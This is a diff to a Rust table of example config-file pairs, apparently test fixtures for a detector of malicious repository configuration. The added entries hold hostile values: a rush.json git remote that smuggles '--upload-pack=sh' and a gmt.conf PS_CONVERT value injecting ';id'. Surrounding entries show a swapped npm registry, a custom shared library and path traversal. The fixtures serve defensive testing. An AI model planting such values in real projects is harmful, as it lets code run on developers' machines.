@@ -40,6 +40,12 @@ pub(crate) const EXAMPLES: &[Example] = &[
         "{\"pnpmVersion\": \"9.1.0\"}",
     ),
     (
+        "rush.json",
+        "rush.json",
+        "{\"repository\": {\"defaultRemote\": \"--upload-pack=sh evil #\"}}",
+        "{\"repository\": {\"url\": \"https://example.org/a/b.git\", \"defaultBranch\": \"release/1.0\", \"defaultRemote\": \"origin\"}}",
+    ),
+    (
         "common/config/rush/.npmrc", "common/config/rush/.npmrc", "registry=https://evil.example/",
         "audit=false\n",
     ),
@@ -62,6 +68,13 @@ pub(crate) const EXAMPLES: &[Example] = &[
         "# GMT 6.4\nGMT_CUSTOM_LIBS                = ./evil.so\n",
         "#\n# GMT 6.4.0 Defaults file\n#\n# COLOR Parameters\n#\nCOLOR_BACKGROUND               = black\nFONT_ANNOT_PRIMARY             = 12p,Helvetica,black\nFORMAT_DATE_OUT                = yyyy-mm-dd\nFORMAT_CLOCK_OUT               = hh:mm:ss\n",
     ),
+    (
+        "gmt.conf",
+        "gmt.conf",
+        "PS_CONVERT = A,C-dX=1;id\n",
+        "GMT_CUSTOM_LIBS                = \nGMT_THEME                      = classic\nPS_CONVERT                     = A\n",
+    ),
+    ("gmt.conf", "gmt.conf", "GMT_THEME = evil\n", "GMT_THEME = modern\n"),
     (".vfox.toml", ".vfox.toml", "[tools]\nnodejs = \"../../evil\"\n", "[tools]\nnodejs = \"21.5.0\"\n"),
     ("vfox.toml", "vfox.toml", "[tools]\nnodejs = \"../../evil\"\n", "[tools]\njava = \"21\"\n"),
     (".vfox/sdks", ".vfox/sdks/nodejs/bin/node", "evil", ""),
